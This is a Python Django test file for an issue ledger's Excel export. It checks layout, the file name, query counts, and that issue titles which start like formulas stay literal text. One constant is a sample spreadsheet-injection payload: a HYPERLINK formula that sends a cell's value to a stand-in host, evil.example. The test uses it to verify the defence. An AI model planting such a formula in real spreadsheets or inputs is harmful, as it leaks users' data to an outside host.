"""The ledger's Excel export: the look of every export, and what enterprises typed stays text."""

import io
import zipfile

from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from issues.exports import LEDGER_COLUMNS
from tests.exports import exported
from tests.issues.conftest import accepted, in_progress, submitted

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&B2,"点击查看")'
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# 问题台账-20261102.xlsx: time stands still on Monday 2 November 2026 in these tests.
DISPOSITION = "attachment; filename*=utf-8''%E9%97%AE%E9%A2%98%E5%8F%B0%E8%B4%A6-20261102.xlsx"


def export_content(client, **filters) -> bytes:
    response = exported(client, reverse("issues:export"), filters)
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX
    assert response["Content-Disposition"] == DISPOSITION
    return b"".join(response.streaming_content)


def worksheet_xml(content: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read("xl/worksheets/sheet1.xml")


def test_an_issue_titled_with_a_formula_is_literal_text_in_the_managers_export(ledger, client_for):
    """Given an enterprise that titles its issue with a HYPERLINK formula, when a manager exports
    the ledger, then the title cell holds that text as text, and the file holds no formula."""
    issue = submitted(ledger, title=PAYLOAD)

    content = export_content(client_for(ledger.manager))

    sheet = load_workbook(io.BytesIO(content)).active
    rows = {row[0].value: row for row in sheet.iter_rows(min_row=3)}
    title = rows[issue.pk][4]
    assert (title.value, title.data_type, title.quotePrefix) == (PAYLOAD, "s", True)
    assert b"<f>" not in worksheet_xml(content) and b"<f " not in worksheet_xml(content)


def test_a_resolution_starting_like_a_formula_is_literal_text_too(ledger, client_for):
    issue = in_progress(ledger)
    issue.resolution = "-1+1 已拨付"
    issue.save(update_fields=["resolution"])

    sheet = load_workbook(io.BytesIO(export_content(client_for(ledger.manager)))).active

    row = next(row for row in sheet.iter_rows(min_row=3) if row[0].value == issue.pk)
    assert (row[20].value, row[20].data_type) == ("-1+1 已拨付", "s")


def test_the_export_has_a_title_row_a_frozen_header_widths_and_date_formats(ledger, client_for):
    issue = accepted(ledger)

    sheet = load_workbook(io.BytesIO(export_content(client_for(ledger.officer_a)))).active

    assert sheet.title == "问题台账"
    assert sheet["A1"].value == "问题台账（导出时间 2026-11-02 10:00）"
    assert [cell.value for cell in sheet[2]] == [str(column.header) for column in LEDGER_COLUMNS]
    assert sheet["A2"].font.bold
    assert sheet.freeze_panes == "A3"
    assert (sheet.column_dimensions["B"].width, sheet.column_dimensions["E"].width) == (30, 36)
    row = sheet[3]
    assert row[0].value == issue.pk
    assert (row[11].number_format, row[13].number_format) == ("yyyy-mm-dd hh:mm", "yyyy-mm-dd")


def test_the_export_job_names_the_file_once(ledger, client_for):
    submitted(ledger)

    response = exported(client_for(ledger.manager), reverse("issues:export"))

    assert (response["Content-Type"], response["Content-Disposition"]) == (XLSX, DISPOSITION)
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert sheet.max_row == 3


def _export_queries(client) -> int:
    with CaptureQueriesContext(connection) as queries:
        export_content(client)
    return len(queries)


def test_the_export_runs_as_many_queries_for_many_issues_as_for_one(ledger, client_for):
    client = client_for(ledger.manager)
    accepted(ledger)
    one = _export_queries(client)
    for index in range(6):
        accepted(ledger, enterprise=ledger.enterprise_b if index % 2 else ledger.enterprise_a, title=f"问题{index}")

    assert _export_queries(client) == one
